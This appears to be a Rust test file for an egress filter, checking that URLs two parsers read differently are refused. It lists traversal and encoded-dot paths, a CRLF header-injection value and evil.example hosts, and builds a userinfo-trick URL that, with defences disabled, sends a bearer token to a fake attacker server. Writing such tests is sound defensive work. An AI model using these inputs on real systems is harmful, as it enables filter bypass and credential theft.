//! A URL that two parsers read differently is refused, so that what was judged is what is asked for.

use serde_json::json;
use std::net::{Ipv4Addr, SocketAddr};
use support::{Connect, EVIL, Lab, SERVICE, Server};

/// Paths that mean something else to the next parser, each with what the wire would carry.
const PATHS: [&str; 9] = [
    "//evil.example/x",
    "/a//b",
    "/a/../admin",
    "/a/./admin",
    "/a/%2e%2e/admin",
    "/a/%2E./admin",
    "/a/.%2e/admin",
    "/..",
    "/%2e",
];

/// Paths that the engine's own HTTP types already refuse.
const UNSAYABLE: [&str; 6] = [
    "/a\r\nx-injected: yes",
    "/a\nb",
    "/a b",
    "/a\u{7f}",
    "http://evil.example/",
    "evil.example",
];

#[tokio::test(flavor = "multi_thread")]
async fn a_path_that_reads_in_two_ways_is_refused() {
    let lab = Lab::open().await;
    let forger = lab.guest("forged_request").await;
    for path in PATHS {
        let told = forger.run(json!({ "path": path })).await.unwrap();
        assert_eq!(told["status"], 403, "{path}: {told}");
        assert!(
            told["body"].to_string().contains("egress-denied"),
            "{path}: {told}"
        );
    }
    for path in UNSAYABLE {
        let told = forger.run(json!({ "path": path })).await.unwrap();
        assert_eq!(told["unsayable"], "path", "{path:?}: {told}");
    }
    assert_eq!(lab.service.seen().len(), 0);

    let bare = Lab::without(|up| up.strict_urls = false).await;
    let forger = bare.guest("forged_request").await;
    for path in PATHS {
        let told = forger.run(json!({ "path": path })).await.unwrap();
        assert_eq!(told["status"], 200, "{path}: {told}");
        let arrived = bare.service.seen().pop().unwrap().target;
        assert!(arrived.ends_with(path), "{path} arrived as {arrived}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_backslash_or_a_fragment_does_not_leave() {
    let lab = Lab::open().await;
    let forger = lab.guest("forged_request").await;
    for path in ["/a\\..\\admin", "\\evil.example", "/a#b"] {
        let told = forger.run(json!({ "path": path })).await.unwrap();
        let refused = told["unsayable"] == "path" || told["status"] == 403;
        let harmless = lab
            .service
            .seen()
            .iter()
            .all(|seen| !seen.target.contains(['\\', '#']));
        assert!(refused || harmless, "{path}: {told}");
    }
}

/// The attacker listens where the service does, one address further on: only the host tells them
/// apart.
#[tokio::test(flavor = "multi_thread")]
async fn userinfo_does_not_hide_where_a_request_goes() {
    let steal = async |lab: &Lab| {
        let next = SocketAddr::from((Ipv4Addr::new(127, 0, 0, 2), lab.service.port()));
        let evil = Server::start(next, Some(&lab.tls)).await;
        lab.names.set(EVIL, &[&["127.0.0.2"]]);
        let thief = lab.connect(Connect::to("wanderer")).await;
        let url = format!("https://{SERVICE}@{EVIL}:{}/userinfo", lab.service.port());
        let told = thief.run(json!({ "urls": [url] })).await.unwrap();
        let stolen = evil
            .seen()
            .first()
            .and_then(|seen| seen.header("authorization").map(str::to_owned));
        (
            told[0]["outcome"]["status"].clone(),
            stolen,
            thief.login.token,
        )
    };
    let (status, stolen, _) = steal(&Lab::open().await).await;
    assert_eq!((status, stolen), (403.into(), None));
    // Behind it a second defence stands: the engine's `Host` then differs from the host judged.
    let careless = Lab::without(|up| {
        up.strict_urls = false;
        up.host_from_url = false;
    })
    .await;
    let (status, stolen, token) = steal(&careless).await;
    assert_eq!(
        (status, stolen),
        (200.into(), Some(format!("Bearer {token}")))
    );
}
